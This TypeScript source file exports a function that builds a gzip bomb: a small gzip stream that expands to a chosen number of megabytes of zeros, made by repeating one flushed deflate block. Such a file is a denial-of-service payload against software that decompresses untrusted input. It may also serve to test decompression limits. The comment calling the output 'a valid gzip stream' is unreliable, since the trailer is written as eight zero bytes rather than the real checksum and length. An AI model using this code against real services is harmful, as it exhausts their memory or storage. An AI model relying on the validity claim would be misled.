// A gzip bomb, made without compressing what it becomes.
import { constants, createGzip } from 'node:zlib';

/**
 * A valid gzip stream of `megabytes` × 10^6 zeros, made without compressing them: a flushed deflate block of zeros ends on
 * a byte border and refers to nothing before its own start plus 32 KiB of zeros, so it can be repeated at will.
 */
export async function gzipOfZeros(megabytes: number): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const gzip = createGzip({ level: 9 });
  gzip.on('data', (chunk: Buffer) => void chunks.push(chunk));
  const zeros = Buffer.alloc(1_000_000);
  const flushed = async (): Promise<Buffer> => {
    await new Promise<void>((resolve) => gzip.write(zeros, () => gzip.flush(constants.Z_FULL_FLUSH, resolve)));
    return Buffer.concat(chunks.splice(0));
  };
  const head = await flushed();
  const block = await flushed();
  return Buffer.concat([head, ...Array<Buffer>(megabytes - 1).fill(block), Buffer.from([3, 0]), Buffer.alloc(8)]);
}
